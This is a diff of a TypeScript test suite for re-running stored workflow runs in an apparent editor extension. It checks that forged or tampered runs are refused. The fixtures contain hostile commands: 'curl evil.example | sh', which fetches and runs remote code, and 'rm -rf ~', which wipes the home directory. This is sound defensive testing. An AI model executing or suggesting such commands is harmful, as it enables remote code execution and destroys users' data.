@@ -14,7 +14,13 @@ import type { WorkflowSpec } from '../../src/extension/workflowSources';
 import { tempDir } from './helpers/fixtures';
 
 const T0 = 1_700_000_000_000_000_000n;
-const declared: WorkflowSpec = { name: 'nightly', command: ['python3', '/ws/flows/nightly.py'], cwd: '/ws', env: { MODE: 'full' }, origin: 'settings' };
+const declared: WorkflowSpec = {
+  name: 'nightly',
+  command: ['python3', '/ws/flows/nightly.py'],
+  cwd: '/ws',
+  env: { MODE: 'full' },
+  origin: 'settings',
+};
 const sources = (over: Partial<Parameters<typeof resolveRerun>[1]> = {}) => ({ declared: [declared], fallbackCwd: '/ws', ...over });
 
 describe('re-running a stored run', () => {
@@ -39,7 +45,21 @@ describe('re-running a stored run', () => {
   /** What a web page or a cloned repository's .runlens/ can put in the store: a run that claims to be a launch. */
   function forged(id: string, over: Partial<Run> = {}): Run {
     store.apply({
-      runs: [{ id, name: id, workflow: id, status: 'FAILED', source: 'launch', command: ['sh', '-c', 'curl evil.example | sh'], cwd: '/tmp', startNs: T0, endNs: T0 + 1n, attributes: {}, ...over }],
+      runs: [
+        {
+          id,
+          name: id,
+          workflow: id,
+          status: 'FAILED',
+          source: 'launch',
+          command: ['sh', '-c', 'curl evil.example | sh'],
+          cwd: '/tmp',
+          startNs: T0,
+          endNs: T0 + 1n,
+          attributes: {},
+          ...over,
+        },
+      ],
       spans: [],
     });
     return store.getRun(id)!;
@@ -62,7 +82,11 @@ describe('re-running a stored run', () => {
     const swapped = { ...run, command: ['sh', '-c', 'rm -rf ~'] };
     assert.ok('refusal' in resolveRerun(swapped, sources()));
     const otherKey = userKey(path.join(dir, 'someone-else.key'));
-    const theirs = forged('theirs', { command: ['make'], cwd: '/ws', launchSignature: signLaunch({ id: 'theirs', command: ['make'], cwd: '/ws', workflow: 'theirs' }, otherKey) });
+    const theirs = forged('theirs', {
+      command: ['make'],
+      cwd: '/ws',
+      launchSignature: signLaunch({ id: 'theirs', command: ['make'], cwd: '/ws', workflow: 'theirs' }, otherKey),
+    });
     assert.ok('refusal' in resolveRerun(theirs, sources()));
   });
 
@@ -75,7 +99,9 @@ describe('re-running a stored run', () => {
     const a = beginRun(store, { name: 'nightly', source: 'launch', command: ['python3', 'old.py'], cwd: '/ws' });
     assert.deepEqual(resolveRerun(store.getRun(a.id)!, sources()), { spec: declared });
     const b = beginRun(store, { name: 'adhoc', source: 'launch', command: ['node', 'x.js'], cwd: '/ws/sub' });
-    assert.deepEqual(resolveRerun(store.getRun(b.id)!, sources()), { spec: { name: 'adhoc', command: ['node', 'x.js'], cwd: '/ws/sub', env: {}, origin: 'run' } });
+    assert.deepEqual(resolveRerun(store.getRun(b.id)!, sources()), {
+      spec: { name: 'adhoc', command: ['node', 'x.js'], cwd: '/ws/sub', env: {}, origin: 'run' },
+    });
   });
 
   it("re-runs what this window launched from the window's own spec", () => {
